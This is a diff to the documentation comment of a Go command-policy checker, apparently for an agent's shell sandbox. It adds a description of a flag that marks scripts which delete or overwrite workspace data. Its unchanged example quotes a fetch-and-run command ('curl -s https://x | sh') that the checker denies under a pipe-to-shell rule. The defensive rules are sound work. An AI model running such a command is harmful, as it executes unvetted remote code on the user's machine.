@@ -21,6 +21,12 @@
 //	d := command.Default().Check("go test ./... && curl -s https://x | sh", nil)
 //	// d.Verdict == command.Deny, d.Rule == "deny:pipe-to-shell", d.Name == "sh"
 //
+// Beside its verdict, a Decision says whether the script deletes, truncates
+// or writes over data the workspace holds (Destroys; destroy.go says what
+// counts), which auto-edit asks about even when the rules allow the
+// command. Options.Exists tells it a file the script creates from one it
+// writes over.
+//
 // The built-in rules are described in rules.go; each has a stable id such
 // as "deny:destructive-outside" or "ask:network". A policy file's commands:
 // section (Config) adds command names to deny, ask or allow; it can tighten
